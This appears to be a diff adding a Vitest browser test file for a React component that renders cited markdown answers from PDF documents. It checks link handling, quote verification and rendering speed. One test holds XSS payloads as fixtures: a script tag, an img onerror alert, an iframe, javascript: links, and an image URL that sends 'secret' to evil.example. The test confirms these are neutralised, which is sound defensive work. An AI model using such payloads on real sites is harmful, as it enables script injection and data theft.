@@ -1,0 +1,77 @@
+import { describe, expect, it } from "vitest";
+import { page } from "vitest/browser";
+import { MemoryRouter } from "react-router";
+import { render } from "vitest-browser-react";
+import { verifiedQuotes } from "./verified-quotes.ts";
+import { Answer } from "./workspace-answer.tsx";
+
+const FILE = "01980000-0000-7000-8000-000000000001";
+const PLACE = `([gl.pdf, page 7](/files/${FILE}#page=7))`;
+const draw = async (text: string, isChecked = true) => {
+  const { container } = await render(
+    <MemoryRouter>
+      <Answer isChecked={isChecked}>{text}</Answer>
+    </MemoryRouter>,
+  );
+  return container;
+};
+
+describe("Cara's words", () => {
+  it("draw lists, tables and emphasis", async () => {
+    await draw("Two **things**:\n\n1. one\n2. two\n\n| Limit | Page |\n|---|---|\n| $1,000,000 | 7 |");
+    await expect.element(page.getByText("things")).toHaveStyle({ fontWeight: "700" });
+    expect(page.getByRole("listitem").elements()).toHaveLength(2);
+    await expect.element(page.getByRole("cell", { name: "$1,000,000" })).toBeVisible();
+  });
+
+  it("[T-39] load nothing from anywhere and run nothing: HTML is text, pictures are not drawn", async () => {
+    const box = await draw(
+      '<img src="https://evil.example/a.png" onerror="alert(1)"><script>alert(1)</script>\n\n![leak](https://evil.example/x.png?d=secret)\n\n<iframe src="https://evil.example"></iframe>\n\n[a](javascript:alert(1)) [b](data:text/html,x)',
+    );
+    expect(box.querySelectorAll("img, script, iframe, object, embed, link, style, video, audio")).toHaveLength(0);
+    expect([...box.querySelectorAll("a")]).toEqual([]);
+    expect(box.textContent).toContain("<script>alert(1)</script>");
+  });
+
+  it("say where a link leads, and open it apart", async () => {
+    const box = await draw("See [our carrier](https://carrier.example/x) or https://plain.example/y");
+    const [first, second] = box.querySelectorAll("a");
+    expect(first?.getAttribute("rel")).toBe("noopener noreferrer");
+    expect(first?.getAttribute("target")).toBe("_blank");
+    expect(box.textContent).toContain("our carrier (carrier.example)");
+    expect(second?.textContent).toBe("https://plain.example/y");
+    expect(box.textContent).not.toContain("(plain.example)");
+  });
+
+  it("a quote that was found is marked and leads to its page", async () => {
+    const box = await draw(`It says “Each Occurrence Limit $1,000,000” ${PLACE}.`);
+    expect(box.querySelector("mark")?.textContent).toBe("Each Occurrence Limit $1,000,000");
+    const chip = page.getByRole("link", { name: "Verified: gl.pdf p. 7" });
+    await expect.element(chip).toHaveAttribute("href", `/files/${FILE}#page=7`);
+    await expect.element(chip).toHaveAttribute("data-evidence", "verified");
+  });
+
+  it.each([
+    ["that was not found", `“Each Occurrence Limit” ${PLACE} **[not verified]**`, true],
+    ["without quoted words", `It stands ${PLACE}.`, true],
+    ["with a closing mark alone", `It stands” ${PLACE}.`, true],
+    ["whose words say another page", `“Each Limit is this” ([gl.pdf, page 8](/files/${FILE}#page=7))`, true],
+    ["in words on their way", `“Each Occurrence Limit” ${PLACE}`, false],
+  ])("a place %s proves nothing", async (_, text, isChecked) => {
+    const box = await draw(text, isChecked);
+    expect(box.querySelector("mark")).toBeNull();
+    await expect.element(page.getByRole("link")).toHaveAttribute("data-evidence", "unsure");
+  });
+
+  it("quotes past those the server looks at prove nothing", () => {
+    const one = `“Each Occurrence Limit” ${PLACE} `;
+    expect(verifiedQuotes(one.repeat(201))).toHaveLength(200);
+  });
+
+  it("a very long answer is shown as it is written, at once", async () => {
+    const started = performance.now();
+    const box = await draw("**word** ".repeat(12_000));
+    expect(performance.now() - started).toBeLessThan(1_500);
+    expect(box.textContent).toContain("**word** **word**");
+  });
+});
